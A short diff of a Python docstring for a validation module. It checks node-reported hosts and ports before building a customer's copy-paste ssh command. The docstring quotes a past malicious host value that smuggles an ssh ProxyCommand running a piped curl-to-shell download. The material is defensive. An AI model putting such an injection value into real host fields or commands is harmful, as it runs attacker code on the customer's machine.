@@ -1,4 +1,4 @@
-"""Where a customer connects (issue 28): every host and port a node reports is checked
+"""Where a customer connects: every host and port a node reports is checked
 here, and the copy-paste ssh line is built only from checked parts. A node once reported
 the host `x -oProxyCommand='sh -c "curl …|sh"'`, which became the customer's ssh line.
 
